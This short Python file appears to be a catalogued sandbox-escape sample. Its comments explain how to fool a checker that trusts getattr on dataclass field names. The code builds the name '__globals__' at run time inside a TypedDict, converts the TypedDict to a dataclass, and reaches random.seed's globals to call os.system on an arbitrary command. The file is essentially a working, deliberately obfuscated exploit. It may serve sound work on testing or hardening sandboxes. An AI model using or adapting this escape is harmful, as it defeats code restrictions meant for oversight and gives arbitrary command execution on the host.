# family: computed
# Escape: getattr(x, f.name) is trusted for f in the real dataclasses.fields(...) as long as nothing stores .name.
# A functional TypedDict takes any string as a key, "__globals__" built at run time; turned into a dataclass
# (no generated methods) that key is a field name, so getattr reads random.seed.__globals__["_os"].
import dataclasses
import random
import typing


def tool(cmd: str) -> int:
    edge = "_" * 2
    Spec = typing.TypedDict("Spec", {edge + "globals" + edge: int})
    dataclasses.dataclass(init=False, repr=False, eq=False)(Spec)
    for f in dataclasses.fields(Spec):
        return getattr(random.seed, f.name)["_os"].system(cmd)
    return -1
